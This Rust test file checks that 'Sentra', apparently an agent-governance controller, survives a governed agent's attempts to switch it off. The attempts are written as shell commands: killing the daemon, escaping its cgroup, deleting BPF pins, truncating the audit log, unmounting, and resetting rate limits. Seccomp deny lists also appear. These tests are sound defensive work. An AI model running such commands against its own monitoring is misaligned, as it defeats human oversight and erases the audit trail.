//! Self-protection: a governed agent, as root and as an unprivileged user, tries to switch Sentra off
//! or out of its way; each attempt fails and is recorded. And the launcher: the user, no new
//! privileges, capabilities, environment and seccomp profiles, each profile blocking what it names
//! with a record per denied call. Real processes against a real controller (its own pins, runtime
//! directory and cgroup).

use std::{
    fmt::Write as _,
    os::unix::{fs::PermissionsExt as _, process::CommandExt as _},
    path::{Path, PathBuf},
    process::Output,
    time::{Duration, Instant},
};

use sentra_tests::{daemon::TestDaemon, install, read_records, sentra_ctl, wait_for_records};
use serde_json::Value;

const FIXTURE: &str = env!("CARGO_BIN_EXE_sentra-fixture");

/// The shipped profiles, from the shipped gateway policy (the text from `seccomp_profiles:` on;
/// compiled in: the VMs hold the test binaries, not the source tree).
fn shipped_profiles() -> String {
    let text = include_str!("../../policies/gateway.yaml");
    let at = text.find("seccomp_profiles:").expect("profiles in the gateway policy");
    text[at..].to_string()
}

struct Scene {
    dir: tempfile::TempDir,
    daemon: TestDaemon<'static>,
}

impl Scene {
    /// A controller enforcing an allow-all exec policy with the shipped profiles and `governed`.
    fn start(tag: &str, governed: &str) -> Self {
        Self::start_with(tag, governed, "", "")
    }

    /// As [`Scene::start`], with more top-level sections (`sections`) and more profiles (`profiles`,
    /// indented as entries of `seccomp_profiles`).
    fn start_with(tag: &str, governed: &str, sections: &str, profiles: &str) -> Self {
        Self::start_exec(tag, governed, sections, profiles, &|_| String::new())
    }

    /// As [`Scene::start_with`], with `exec:` entries after `default: allow` (made from the scene's
    /// directory, installed before the policy is written: `bin/fixture` and `bin/denied`, a copy).
    fn start_exec(
        tag: &str,
        governed: &str,
        sections: &str,
        profiles: &str,
        exec: &dyn Fn(&Path) -> String,
    ) -> Self {
        let dir = tempfile::Builder::new().prefix("sentra-self-").tempdir_in("/tmp").expect("tempdir");
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let mut scene = Self { daemon: TestDaemon::new(tag, dir.path(), None), dir };
        install(Path::new(FIXTURE), &scene.dir.path().join("bin/fixture"));
        install(Path::new(FIXTURE), &scene.dir.path().join("bin/denied"));
        let entries = exec(scene.dir.path());
        let policy = scene.write(
            "policy.yaml",
            &format!(
                "version: \"2.0\"\nmode: enforce\ndefault: allow\nexec:\n  default: allow\n{entries}governed:\n{governed}\n{sections}{}{profiles}",
                shipped_profiles()
            ),
        );
        scene.daemon.start(&policy);
        scene
    }

    fn write(&self, name: &str, body: &str) -> PathBuf {
        let path = self.dir.path().join(name);
        std::fs::write(&path, body).expect("write");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        path
    }

    fn fixture(&self) -> String {
        self.dir.path().join("bin/fixture").display().to_string()
    }

    /// `sentra-ctl launch OPTIONS -- fixture ARGS`, with the controller's runtime directory passed
    /// to the agent (so that its own `sentra-ctl` would find the socket).
    fn launch(&self, options: &[&str], args: &[&str]) -> Output {
        let fixture = self.fixture();
        let mut cmd = self.daemon.ctl();
        cmd.arg("launch").args(options).args(["--env", "SENTRA_RUN_DIR", "--env", "SENTRA_PIN_ROOT", "--"]);
        cmd.arg(&fixture).args(args);
        cmd.output().expect("launch")
    }

    fn wait_for(&self, what: &str, found: impl Fn(&[Value]) -> bool) -> Vec<Value> {
        wait_for_records(&self.daemon.audit(), Duration::from_secs(10), what, found)
    }
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn line<'a>(text: &'a str, key: &str) -> &'a str {
    text.lines()
        .find_map(|l| l.strip_prefix(&format!("{key}=")))
        .unwrap_or_else(|| panic!("no {key}= in {text}"))
}

/// `NAME errno=N` lines of `fixture sys`.
fn errnos(text: &str) -> Vec<(String, i64)> {
    text.lines()
        .filter_map(|l| {
            let (name, errno) = l.split_once(" errno=")?;
            Some((name.to_string(), errno.parse().ok()?))
        })
        .collect()
}

#[test]
fn launch_drops_to_the_user_with_no_new_privileges_capabilities_or_inherited_environment() {
    let s = Scene::start("launch-user", "  user: \"65534\"");
    let out = s.launch(&[], &["whoami"]);
    let text = stdout(&out);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(line(&text, "uid"), "65534");
    assert_eq!(line(&text, "euid"), "65534");
    assert_eq!(line(&text, "NoNewPrivs"), "1");
    assert_eq!(line(&text, "CapBnd"), "0000000000000000");
    assert_eq!(line(&text, "CapAmb"), "0000000000000000");
    assert_eq!(line(&text, "CapEff"), "0000000000000000");
    assert_eq!(line(&text, "Seccomp"), "2", "the gateway profile is applied by default");
    let env: Vec<&str> = line(&text, "env").split(',').collect();
    for name in ["HOME", "USER", "LOGNAME", "PATH"] {
        assert!(env.contains(&name), "{name} missing: {env:?}");
    }
    // Only what --env passed of the launcher's environment; none of the test harness's variables.
    assert!(!env.iter().any(|n| n.starts_with("CARGO") || n.starts_with("RUST")), "{env:?}");

    // Root is refused unless the policy says so.
    let out = s.launch(&["--user", "0"], &["whoami"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("governed.allow_root"), "{out:?}");

    let records = s.wait_for("the launch records", |r| {
        r.iter().filter(|r| r["event"] == "launch").count() >= 1
            && r.iter().any(|r| r["event"] == "launch_exit")
    });
    let launch = records.iter().find(|r| r["event"] == "launch").expect("launch record");
    assert_eq!(launch["detail"]["uid"], 65534);
    assert_eq!(launch["detail"]["seccomp_profile"], "gateway");
    assert_eq!(launch["reported_by"]["uid"], 0, "{launch}");
}

#[test]
fn no_new_privs_makes_a_setuid_binary_useless() {
    let s = Scene::start("launch-suid", "  user: \"65534\"");
    let suid = s.dir.path().join("bin/suid-fixture");
    install(Path::new(FIXTURE), &suid);
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).expect("setuid");
    // The setuid bit works here at all (a nosuid /tmp would make this test prove nothing).
    let direct =
        std::process::Command::new(&suid).arg("whoami").uid(65534).gid(65534).output().expect("direct");
    assert_eq!(line(&stdout(&direct), "euid"), "0", "setuid must work outside the launcher for this test");
    let out = s.launch(&[], &["spawn", suid.to_str().expect("utf-8"), "whoami"]);
    let text = stdout(&out);
    assert_eq!(line(&text, "euid"), "65534", "{text}");
}

#[test]
fn each_shipped_profile_denies_what_it_names_with_eperm_and_a_record() {
    let s = Scene::start("profiles", "  user: \"65534\"");
    let gateway = [
        "bpf",
        "ptrace",
        "mount",
        "umount2",
        "unshare",
        "setns",
        "perf_event_open",
        "keyctl",
        "reboot",
        "init_module",
        "kexec_load",
        "io_uring_setup",
        "execveat",
    ];
    let cases: [(&str, Vec<&str>, Vec<&str>); 4] = [
        ("gateway", gateway.to_vec(), vec!["socket", "fork"]),
        ("base_restricted", [&gateway[..], &["fork"]].concat(), vec!["socket"]),
        ("whatsapp_agent", vec!["bpf", "ptrace", "fork"], vec!["socket"]),
        ("isolated_agent", vec!["bpf", "socket", "fork"], vec![]),
    ];
    for (profile, denied, allowed) in cases {
        let mut calls: Vec<&str> = denied.clone();
        calls.extend(&allowed);
        calls.push("clone3");
        let mut args = vec!["sys"];
        args.extend(&calls);
        let out = s.launch(&["--seccomp-profile", profile], &args);
        let results = errnos(&stdout(&out));
        assert_eq!(results.len(), calls.len(), "{profile}: {out:?}");
        let pid_records = s.wait_for(&format!("{profile}: a record per denied call"), |records| {
            denied.iter().all(|name| {
                records.iter().any(|r| {
                    r["event"] == "syscall_denied"
                        && r["detail"]["syscall"] == recorded_as(name)
                        && r["detail"]["profile"] == profile
                })
            })
        });
        for (name, errno) in &results {
            if denied.contains(&name.as_str()) {
                assert_eq!(*errno, i64::from(libc::EPERM), "{profile}: {name} must fail with EPERM");
            } else if name == "clone3" {
                assert_eq!(*errno, i64::from(libc::ENOSYS), "{profile}: clone3 must answer ENOSYS");
            } else {
                assert_eq!(*errno, 0, "{profile}: {name} must be allowed");
                assert!(
                    !pid_records.iter().any(|r| r["event"] == "syscall_denied"
                        && r["detail"]["syscall"] == recorded_as(name)
                        && r["detail"]["profile"] == profile),
                    "{profile}: {name} allowed but recorded as denied"
                );
            }
        }
        let record = pid_records
            .iter()
            .find(|r| r["event"] == "syscall_denied" && r["detail"]["profile"] == profile)
            .expect("a record");
        assert_eq!(record["decision"], "denied");
        assert_eq!(record["rule_id"], format!("seccomp:{profile}"));
        assert!(record["pid"].as_u64().is_some_and(|p| p > 0), "{record}");
    }
}

/// The system call a fixture call makes: libc's `fork` is `clone` without `CLONE_THREAD`.
fn recorded_as(name: &str) -> &str {
    if name == "fork" { "clone" } else { name }
}

#[cfg(target_arch = "x86_64")]
#[test]
fn x32_entry_points_kill_the_process() {
    let s = Scene::start("x32", "  user: \"65534\"");
    let out = s.launch(&[], &["sys", "x32"]);
    // 128 + SIGSYS: SECCOMP_RET_KILL_PROCESS.
    assert_eq!(out.status.code(), Some(128 + libc::SIGSYS), "{out:?}");
}

#[test]
fn no_seccomp_is_loud_and_recorded() {
    let s = Scene::start("noseccomp", "  user: \"65534\"");
    let out = s.launch(&["--no-seccomp"], &["whoami"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("WARNING: --no-seccomp"), "{out:?}");
    assert_eq!(line(&stdout(&out), "Seccomp"), "0");
    s.wait_for("the seccomp_disabled record", |r| r.iter().any(|r| r["event"] == "seccomp_disabled"));
}

#[test]
fn list_profiles_names_each_profile_and_the_default() {
    let s = Scene::start("list", "  user: \"65534\"");
    let out = s.daemon.run(&["launch", "--list-profiles"]);
    let text = stdout(&out);
    for name in ["gateway (default)", "base_restricted extends gateway", "whatsapp_agent", "isolated_agent"] {
        assert!(text.contains(name), "{name} missing: {text}");
    }
}

/// Attacks an agent makes on Sentra itself; `root` says whether it runs as root.
fn attacks(s: &Scene, root: bool) {
    let ctl = sentra_ctl().display().to_string();
    let pins = s.daemon.pin_root.display().to_string();
    let audit = s.daemon.audit().display().to_string();
    let cgroup_root = sentra_ctl::cgroup::cgroup2_root().expect("cgroup2").display().to_string();
    let user = if root { "0" } else { "65534" };
    let daemon_pid = s.daemon.child.as_ref().map(std::process::Child::id).expect("daemon running");
    // Each attack prints `NAME rc=N`; the agent is a shell so that it can try what an agent would.
    let mut script = String::new();
    for (name, command) in [
        ("stop", format!("{ctl} stop")),
        ("reload", format!("{ctl} policy reload")),
        ("escape", format!("echo $$ > {cgroup_root}/cgroup.procs")),
        ("pins", format!("test -d {pins}/maps && rm -rf {pins}/maps {pins}/links")),
        ("truncate", format!(": > {audit} && test ! -c {audit}")),
        ("umount", format!("umount {pins}")),
        // The agent's PID namespace holds no controller to signal, whatever the uid.
        ("kill", format!("kill -9 {daemon_pid}")),
    ] {
        let _ = write!(script, "{command} >/dev/null 2>&1; echo \"{name} rc=$?\"; ");
    }
    let out = s.launch(&["--user", user], &["spawn", "/bin/sh", "-c", &script]);
    let text = stdout(&out);
    for name in ["stop", "reload", "escape", "pins", "truncate", "umount", "kill"] {
        let rc = line(&text, &format!("{name} rc"));
        assert_ne!(rc, "0", "as {user}: attack `{name}` succeeded: {text}");
    }
    // The syscall-level attacks, recorded by the launcher.
    let out = s.launch(&["--user", user], &["sys", "bpf", "ptrace", "umount2", "mount"]);
    for (name, errno) in errnos(&stdout(&out)) {
        assert_eq!(errno, i64::from(libc::EPERM), "as {user}: {name}");
    }
    s.wait_for("a record of each denied call", |r| {
        ["bpf", "ptrace", "umount2", "mount"].iter().all(|name| {
            r.iter().any(|r| {
                r["event"] == "syscall_denied"
                    && r["detail"]["syscall"] == *name
                    && r["uid"] == root_uid(root)
            })
        })
    });
    // Enforcement is intact: the pins are there, the controller answers, the log is whole.
    assert!(s.daemon.pin_root.join("maps").is_dir(), "pins removed");
    assert!(s.daemon.status()["backend"].is_string(), "the controller stopped");
    assert!(std::fs::metadata(s.daemon.audit()).expect("log").len() > 0, "the log was emptied");
}

fn root_uid(root: bool) -> u32 {
    if root { 0 } else { 65534 }
}

#[test]
fn an_unprivileged_agent_cannot_switch_sentra_off() {
    let s = Scene::start("attack-user", "  user: \"65534\"");
    attacks(&s, false);
}

#[test]
fn a_root_agent_cannot_switch_sentra_off_and_its_control_attempts_are_recorded() {
    let s = Scene::start("attack-root", "  user: \"65534\"\n  allow_root: true");
    attacks(&s, true);
    let records = s.wait_for("control_refused records", |r| {
        r.iter().filter(|r| r["event"] == "control_refused").count() >= 2
    });
    let refused = records.iter().find(|r| r["event"] == "control_refused").expect("record");
    assert_eq!(refused["detail"]["peer_uid"], 0);
    assert!(
        refused["detail"]["peer_cgroup"].as_str().is_some_and(|c| c.contains(&s.daemon.cgroup)),
        "{refused}"
    );
}

#[test]
fn a_peer_holding_the_socket_open_stalls_nothing() {
    let s = Scene::start("hold", "  user: \"65534\"");
    let socket = s.daemon.run_dir().join("ctl.sock");
    // Three root peers outside the governed cgroup connect and send nothing.
    let held: Vec<_> =
        (0..3).map(|_| std::os::unix::net::UnixStream::connect(&socket).expect("connect")).collect();
    assert!(s.daemon.status()["backend"].is_string());
    // Served while the silent peers are still connected: had the answer waited for them, their
    // per-connection deadline would have closed them first (a read would see end of file).
    for peer in &held {
        peer.set_nonblocking(true).expect("nonblocking");
        let mut byte = [0u8; 1];
        match std::io::Read::read(&mut &*peer, &mut byte) {
            Err(err) if err.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("a held connection was closed or answered before status was served: {other:?}"),
        }
    }
    // Software-emulated VMs run fewer (SENTRA_STORM).
    let n: u32 = std::env::var("SENTRA_STORM").ok().and_then(|v| v.parse().ok()).unwrap_or(2000);
    let fixture = s.fixture();
    let out = s.launch(&[], &["storm", &n.to_string(), &fixture, "exit", "0"]);
    assert!(stdout(&out).contains(&format!("ok={n}")), "{out:?}");
    // Every exec is in the log, or the loss is, with its count.
    let records = wait_for_records(
        &s.daemon.audit(),
        Duration::from_mins(2),
        "the storm's events or their loss",
        |r| {
            // By file, not by name: on the lsm backend the event carries the name before the exec.
            let execs =
                r.iter().filter(|r| r["event"] == "exec" && r["executable"] == fixture.as_str()).count();
            let lost: u64 = r
                .iter()
                .filter(|r| r["event"] == "events_lost")
                .filter_map(|r| r["detail"]["lost"].as_u64())
                .sum();
            // The storm's and the launch's own.
            execs as u64 + lost > u64::from(n)
        },
    );
    let lost: u64 = records
        .iter()
        .filter(|r| r["event"] == "events_lost")
        .filter_map(|r| r["detail"]["lost"].as_u64())
        .sum();
    let counters = &s.daemon.status()["counters"];
    assert_eq!(
        counters["events_dropped"].as_u64(),
        Some(lost),
        "every loss the kernel counted is in the log"
    );
    drop(held);
}

#[test]
fn the_audit_log_rotates_under_an_exec_storm_without_losing_a_record() {
    let s = Scene::start("rotate", "  user: \"65534\"");
    let log = s.daemon.audit();
    let pid = s.daemon.child.as_ref().expect("daemon running").id();
    // A quarter of the storm: rotations every 50 ms still fall inside it, and the storm is this test's
    // whole cost under emulation.
    let n: u32 = std::env::var("SENTRA_STORM").ok().and_then(|v| v.parse().ok()).unwrap_or(2000) / 4;
    let fixture = s.fixture();
    // As logrotate's `create` does it, while the storm runs: rename, then SIGHUP (the postrotate
    // command of deploy/logrotate/sentra). The last rotation comes after the storm.
    let mut rotated = Vec::new();
    let out = std::thread::scope(|scope| {
        let storm = scope.spawn(|| s.launch(&[], &["storm", &n.to_string(), &fixture, "exit", "0"]));
        let mut rotate = |i: usize| {
            // The previous SIGHUP has been handled once the log is there again.
            let deadline = Instant::now() + Duration::from_secs(10);
            while !log.exists() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(10));
            }
            let to = log.with_extension(format!("jsonl.{i}"));
            std::fs::rename(&log, &to).expect("rotate");
            rotated.push(to);
            // SAFETY: a signal to the controller this test started.
            assert_eq!(unsafe { libc::kill(i32::try_from(pid).expect("pid"), libc::SIGHUP) }, 0);
        };
        let mut i = 1;
        rotate(i);
        while !storm.is_finished() && i < 8 {
            std::thread::sleep(Duration::from_millis(50));
            i += 1;
            rotate(i);
        }
        let out = storm.join().expect("storm");
        std::thread::sleep(Duration::from_millis(300));
        rotate(i + 1);
        out
    });
    assert!(stdout(&out).contains(&format!("ok={n}")), "{out:?}");
    // The controller follows at once: a new log, opened with a record saying so.
    let fresh = wait_for_records(&log, Duration::from_secs(10), "the log reopened after SIGHUP", |r| {
        r.first().is_some_and(|r| r["event"] == "audit_log_reopened")
    });
    assert_eq!(fresh[0]["detail"]["rotated"], true, "{:?}", fresh[0]);
    // Every exec of the storm is in one of the files (or its loss is counted), each exactly once.
    let mut all = Vec::new();
    for file in rotated.iter().chain([&log]) {
        all.extend(read_records(file));
    }
    let execs = all.iter().filter(|r| r["event"] == "exec" && r["executable"] == fixture.as_str()).count();
    let lost: u64 =
        all.iter().filter(|r| r["event"] == "events_lost").filter_map(|r| r["detail"]["lost"].as_u64()).sum();
    // The storm's execs and the launch's own exec of the fixture.
    assert_eq!(execs as u64 + lost, u64::from(n) + 1, "{} files", rotated.len() + 1);
    assert!(rotated.len() >= 2, "rotated during the storm: {}", rotated.len());
    let reopened = all.iter().filter(|r| r["event"] == "audit_log_reopened").count();
    assert_eq!(reopened, rotated.len(), "one record per rotation");
}

#[test]
fn a_launched_shell_writes_through_the_controller_and_cannot_choose_its_log_or_policy() {
    let s = Scene::start("shell-records", "  user: \"65534\"");
    let shell = sentra_ctl().with_file_name("sentra-shell");
    let own_log = s.dir.path().join("agent-chosen.jsonl");
    let own_policy = s.write("agent-policy.yaml", "version: \"2.0\"\ndefault: deny\n");
    let script = format!(
        "SENTRA_AUDIT_LOG={} SENTRA_POLICY={} {} -c 'echo from-the-shell'",
        own_log.display(),
        own_policy.display(),
        shell.display()
    );
    let out = s.launch(&[], &["spawn", "/bin/sh", "-c", &script]);
    let text = stdout(&out);
    // The controller's policy (default allow) decided, not the agent's (default deny).
    assert!(text.contains("from-the-shell"), "{out:?}");
    let records = s.wait_for("the shell's record in the controller's log", |r| {
        r.iter().any(|r| r["layer"] == "shell" && r["command"] == "echo from-the-shell")
    });
    let record = records.iter().find(|r| r["command"] == "echo from-the-shell").expect("record");
    assert_eq!(record["reported_by"]["uid"], 65534, "{record}");
    assert_eq!(record["kernel_enforced"], true, "{record}");
    assert!(!own_log.exists(), "the agent chose its own log");
}

#[test]
fn a_kernel_denial_inside_a_shell_command_reaches_the_agent_with_rule_and_reason() {
    let s = Scene::start_exec("shell-kernel-denial", "  user: \"65534\"", "", "", &|dir| {
        format!(
            "  deny:\n    - {{ id: no_denied_copy, path: {}/bin/denied, reason: \"copies of the fixture are not run\" }}\n",
            dir.display()
        )
    });
    let shell = sentra_ctl().with_file_name("sentra-shell");
    let denied = s.dir.path().join("bin/denied");
    // The shell layer allows the line (the fixture is allowed, and what it starts is not on the line);
    // the kernel refuses the exec the fixture makes.
    let script = format!(
        "SENTRA_SESSION_ID=corr-line {} -c '{} spawn {} exit; echo after-the-denial' 2>&1",
        shell.display(),
        s.fixture(),
        denied.display()
    );
    let out = s.launch(&[], &["spawn", "/bin/sh", "-c", &script]);
    let text = stdout(&out);
    assert!(text.contains("after-the-denial"), "the rest of the line runs: {out:?}");
    assert!(text.contains(&format!("[X] DENIED (kernel): {}", denied.display())), "{out:?}");
    assert!(text.contains("Rule: no_denied_copy"), "{out:?}");
    assert!(text.contains("Reason: copies of the fixture are not run"), "{out:?}");
    records_of_one_line_form_one_tree(&s, &denied);
    // Allowed commands say nothing of the kind.
    let out = s.launch(&[], &["spawn", "/bin/sh", "-c", &format!("{} -c 'echo fine' 2>&1", shell.display())]);
    assert!(stdout(&out).contains("fine") && !stdout(&out).contains("DENIED"), "{out:?}");
}

/// The records of the line above (session `corr-line`) join into one process tree: the shell's record
/// and the kernel's record of the shell's own exec name the same process (`/proc` and the kernel
/// agree on `exec_id`), the denied exec descends from it, and `sentra-ctl audit` shows the tree and
/// the session.
fn records_of_one_line_form_one_tree(s: &Scene, denied: &Path) {
    let denied_path = denied.display().to_string();
    let records = s.wait_for("the shell's record and the kernel's denial", |r| {
        r.iter().any(|r| r["layer"] == "shell" && r["session_id"] == "corr-line")
            && r.iter().any(|r| r["executable"] == denied_path.as_str() && r["decision"] == "denied")
    });
    // In time order as written (the resolver's records aside: none here).
    let times: Vec<&str> = records.iter().filter_map(|r| r["timestamp"].as_str()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "records out of time order: {records:#?}");
    let shell = records
        .iter()
        .find(|r| r["layer"] == "shell" && r["event"] == "exec" && r["session_id"] == "corr-line")
        .expect("the shell's record");
    let shell_id = shell["exec_id"].as_str().unwrap_or_else(|| panic!("no exec_id: {shell}"));
    assert!(shell["pid"].as_u64().is_some_and(|p| p > 0) && shell["cgroup_id"].as_u64().is_some(), "{shell}");
    // (The same process may have exec'd before: `sh -c '… sentra-shell …'` can exec its last command
    // in place, and the process, so its exec_id, stays the same.)
    let own_exec = records
        .iter()
        .find(|r| {
            r["layer"] == "kernel"
                && r["event"] == "exec"
                && r["exec_id"] == shell_id
                && r["executable"].as_str().is_some_and(|e| e.ends_with("/sentra-shell"))
        })
        .unwrap_or_else(|| panic!("no kernel record of the shell's own exec {shell_id}: {records:#?}"));
    assert_eq!(own_exec["pid"], shell["pid"], "{own_exec}");
    let refusal = records
        .iter()
        .find(|r| r["executable"] == denied_path.as_str() && r["decision"] == "denied")
        .expect("the denial");
    let parents: std::collections::HashMap<&str, &str> = records
        .iter()
        .filter_map(|r| Some((r["exec_id"].as_str()?, r["parent_exec_id"].as_str()?)))
        .collect();
    let mut at = refusal["exec_id"].as_str().unwrap_or_else(|| panic!("no exec_id: {refusal}"));
    let mut lineage = vec![at];
    while at != shell_id {
        at = parents.get(at).unwrap_or_else(|| panic!("{lineage:?} does not lead to the shell {shell_id}"));
        lineage.push(at);
        assert!(lineage.len() < 16, "{lineage:?}");
    }

    let audit = |args: &[&str]| {
        let out = sentra_tests::ctl_command()
            .arg("audit")
            .arg("--file")
            .arg(s.daemon.audit())
            .args(args)
            .output()
            .expect("sentra-ctl audit");
        assert!(out.status.success(), "audit {args:?}: {out:?}");
        stdout(&out)
    };
    let tree = audit(&["--exec-id", shell_id, "--tree", "--text", "--color", "never"]);
    let head = format!("{} sentra-shell [{shell_id}]", shell["pid"]);
    assert!(tree.starts_with(&head), "{tree}");
    let refusal_line =
        tree.lines().find(|l| l.contains("no_denied_copy")).unwrap_or_else(|| panic!("{tree}"));
    let indent = |line: &str| line.len() - line.trim_start().len();
    assert!(indent(refusal_line) >= 4 * (lineage.len() - 1), "nested under each ancestor: {tree}");
    let session: Vec<Value> = audit(&["--session", "corr-line", "--json"])
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    assert!(session.iter().all(|r| r["session_id"] == "corr-line"), "{session:#?}");
    assert!(
        session.iter().any(|r| r["layer"] == "kernel" && r["executable"] == denied_path.as_str()),
        "{session:#?}"
    );
    assert!(session.iter().any(|r| r["layer"] == "shell"), "{session:#?}");
    let pending = sentra_tests::ctl_command()
        .arg("pending")
        .arg("--file")
        .arg(s.daemon.audit())
        .output()
        .expect("sentra-ctl pending");
    let groups: Vec<Value> =
        stdout(&pending).lines().map(|l| serde_json::from_str(l).expect("a JSON line")).collect();
    let group =
        groups.iter().find(|g| g["what"] == denied_path.as_str()).unwrap_or_else(|| panic!("{groups:#?}"));
    assert_eq!(
        (&group["kind"], &group["rule"], &group["decision"]),
        (&"exec".into(), &"no_denied_copy".into(), &"denied".into()),
        "{group}"
    );
    assert!(
        group["count"].as_u64().is_some_and(|c| c >= 1) && group["id"].as_str().is_some_and(|i| i.len() == 8),
        "{group}"
    );
    let by_rule = audit(&["--rule", "no_denied_copy", "--denied"]);
    assert!(
        by_rule.lines().count() >= 1 && by_rule.lines().all(|l| l.contains("no_denied_copy")),
        "{by_rule}"
    );
}

#[test]
fn a_launched_shells_rate_limit_is_counted_by_the_controller_and_cannot_be_reset() {
    let s = Scene::start_with(
        "shell-rate",
        "  user: \"65534\"",
        "rate_limit: { max_commands: 3, window_seconds: 600 }\n",
        "",
    );
    let shell = sentra_ctl().with_file_name("sentra-shell");
    // Five commands, each from a new shell that tries another way to a fresh budget: its own state
    // directory, temporary directory or identity.
    let mut script = String::new();
    for (i, env) in ["", "TMPDIR=/tmp/x1", "SENTRA_STATE_DIR=/tmp/x2", "SENTRA_IDENTITY=other", "HOME=/tmp"]
        .iter()
        .enumerate()
    {
        let _ = write!(script, "{env} {} -c 'echo run-{i}'; echo rc-{i}=$?; ", shell.display());
    }
    let out = s.launch(&[], &["spawn", "/bin/sh", "-c", &script]);
    let text = stdout(&out);
    for i in 0..3 {
        assert!(text.contains(&format!("run-{i}\n")), "command {i} within the limit: {out:?}");
    }
    for i in 3..5 {
        assert!(!text.contains(&format!("run-{i}\n")), "command {i} over the limit ran: {out:?}");
        assert!(!text.contains(&format!("rc-{i}=0")), "{out:?}");
    }
    let records = s.wait_for("the rate-limited commands' records", |r| {
        r.iter().filter(|r| r["layer"] == "shell" && r["rule_id"] == "rate_limit").count() >= 2
    });
    let limited: Vec<&Value> = records.iter().filter(|r| r["rule_id"] == "rate_limit").collect();
    assert!(limited.iter().all(|r| r["reported_by"]["uid"] == 65534), "{limited:?}");
}

#[test]
fn reload_reads_only_the_policy_directory_and_regular_files_of_bounded_size() {
    let s = Scene::start("reload-paths", "  user: \"65534\"");
    // Outside --policy-dir: refused, however root-owned and valid.
    let elsewhere = tempfile::tempdir().expect("dir");
    let outside = elsewhere.path().join("open.yaml");
    std::fs::write(&outside, "version: \"2.0\"\ndefault: allow\n").expect("write");
    std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let out = s.daemon.run(&["policy", "reload", outside.to_str().expect("utf-8")]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--policy-dir"), "{out:?}");
    // A FIFO in the directory: refused at once (a read would block until a writer came).
    let fifo = s.dir.path().join("fifo.yaml");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o644)).expect("mkfifo");
    let out = s.daemon.run(&["policy", "reload", fifo.to_str().expect("utf-8")]);
    assert!(!out.status.success());
    // Refused as a FIFO (found by its type, never opened: no writer ever came).
    assert!(String::from_utf8_lossy(&out.stderr).contains("FIFO"), "{out:?}");
    // Oversized: refused.
    let big = s.write("big.yaml", &"# padding\n".repeat(2 * 1024 * 1024));
    let out = s.daemon.run(&["policy", "reload", big.to_str().expect("utf-8")]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("larger than"), "{out:?}");
    assert!(s.daemon.status()["reloads"] == 0, "nothing was reloaded");
}

#[test]
fn a_deleted_audit_log_is_recreated_and_the_gap_recorded() {
    let s = Scene::start("audit-gap", "  user: \"65534\"");
    std::fs::remove_file(s.daemon.audit()).expect("rm");
    let out = s.launch(&[], &["hello"]);
    assert!(out.status.success());
    let records = s.wait_for("the reopened log's first record", |r| !r.is_empty());
    assert_eq!(records[0]["event"], "audit_log_reopened", "{records:?}");
}

/// `sentra-ctl run` of the fixture sleeping, in its own cgroup: returns the run process.
fn run_sleeping(policy: &Path, audit: &Path, script: &str) -> std::process::Child {
    sentra_tests::run_command(policy, audit, &["/bin/sh", "-c", script])
        .env("SENTRA_PIN_ROOT", pin_root())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("run")
}

/// Where this test's runs pin (each run below `<this>-run-PID`).
fn pin_root() -> PathBuf {
    PathBuf::from(format!("/sys/fs/bpf/sentra-test-runkill-{}", std::process::id()))
}

fn run_cgroups() -> Vec<PathBuf> {
    let root = sentra_ctl::cgroup::cgroup2_root().expect("cgroup2").join("sentra");
    std::fs::read_dir(root)
        .map(|d| d.flatten().map(|e| e.path()).filter(|p| p.to_string_lossy().contains("/run-")).collect())
        .unwrap_or_default()
}

#[test]
fn run_killed_from_inside_or_outside_leaves_nothing_running_ungoverned() {
    let dir = tempfile::Builder::new().prefix("sentra-run-kill-").tempdir_in("/tmp").expect("dir");
    let policy = dir.path().join("p.yaml");
    std::fs::write(&policy, "version: \"2.0\"\ndefault: allow\nexec:\n  default: allow\n").expect("write");
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let audit = dir.path().join("audit.jsonl");
    // A unique argument to find the command by.
    let marker = format!("29.{}", std::process::id());

    // From inside: the command kills its controller with SIGKILL. On the `lsm` backend the kernel
    // refuses (the controller is protected) and records it; the controller is then killed from
    // outside, and what follows must be the same.
    let mut run = run_sleeping(&policy, &audit, &format!("kill -9 $PPID; exec {FIXTURE} sleep {marker}"));
    let records = wait_for_records(&audit, Duration::from_mins(1), "the run's start", |r| {
        r.iter().any(|r| r["event"] == "controller_start")
    });
    let start = records.iter().find(|r| r["event"] == "controller_start").expect("start");
    if start["backend"] == "lsm" {
        wait_for_records(&audit, Duration::from_secs(10), "the refused kill", |r| {
            r.iter().any(|r| {
                r["event"] == "guard" && r["action"] == "signal" && r["detail"]["target_pid"] == run.id()
            })
        });
        run.kill().expect("SIGKILL from outside");
    }
    let status = run.wait().expect("wait");
    assert_eq!(status.code(), None, "run was killed");
    let records = wait_for_records(&audit, Duration::from_secs(10), "controller_killed", |r| {
        r.iter().any(|r| r["event"] == "controller_killed")
    });
    let killed = records.iter().find(|r| r["event"] == "controller_killed").expect("record");
    assert_eq!(killed["detail"]["cgroup_killed"], true, "{killed}");
    assert_eq!(killed["detail"]["pins_removed"], true, "{killed}");
    let deadline = Instant::now() + Duration::from_secs(5);
    while !procs_named(&marker).is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(procs_named(&marker).is_empty(), "the command outlived its killed controller");
    assert!(
        !PathBuf::from(format!("{}-run-{}", pin_root().display(), run.id())).exists(),
        "pins left behind"
    );

    // From outside: SIGTERM is forwarded and the cgroup removed; the stop record says so.
